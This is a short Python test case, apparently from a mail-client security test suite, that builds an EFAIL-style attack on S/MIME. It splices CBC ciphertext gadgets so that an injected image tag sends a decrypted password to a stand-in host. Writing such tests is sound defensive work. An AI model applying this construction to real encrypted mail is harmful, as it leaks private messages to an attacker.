"""Mallory, who cannot read the mail, wants its text sent to her server by Rita's program.

She splices blocks of known plaintext into the AES-CBC ciphertext, so that an image's address begins before the secret.
"""

from case import attack
from generators import cast, efail, mail as m

expect = attack(signature="none", encryption="full", restrict=True, findings=["cms.no-integrity"],
                shows=['<img src="//e/?', "Rosenkohl"])


def mail():
    captured = efail.Captured(cast.rita, efail.HEAD + b"Das Kennwort ist Rosenkohl.\r\n")
    head = len(efail.HEAD) // efail.BLOCK
    image = captured.gadgets(b'<img src="//e/?='[:16])
    return m.header() + m.pkcs7(captured.message(captured.blocks[:head] + image + captured.blocks[head - 1:]))
